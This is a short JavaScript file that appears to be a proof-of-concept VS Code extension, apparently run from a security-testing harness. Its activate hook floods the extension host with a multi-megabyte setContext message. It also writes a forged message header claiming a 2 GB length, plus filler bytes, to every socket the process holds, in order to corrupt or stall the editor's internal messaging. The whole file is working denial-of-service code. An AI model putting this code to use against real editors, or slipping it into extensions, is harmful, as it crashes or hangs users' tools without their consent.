"use strict";
const fs = require("node:fs");
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "message", {
    async one({ message }, vscode) {
      const text = "x".repeat(message << 20);
      await vscode.commands.executeCommand("setContext", "proof.huge", text);
      return "sent";
    },
    // Past the API: the head of a message on every socket that this process holds, and some of its body.
    async claim() {
      const head = Buffer.alloc(13);
      head[0] = 1;
      head.writeUInt32BE(0x80000000, 9);
      let sockets = 0;
      for (const name of fs.readdirSync("/proc/self/fd")) {
        try {
          if (!fs.readlinkSync(`/proc/self/fd/${name}`).startsWith("socket:")) continue;
          fs.writeSync(Number(name), head);
          fs.writeSync(Number(name), Buffer.alloc(16384, "x")); // more could wait for ever
          sockets += 1;
        } catch {
          // Not this one, or it is full.
        }
      }
      return `sent to ${sockets}`;
    },
  });
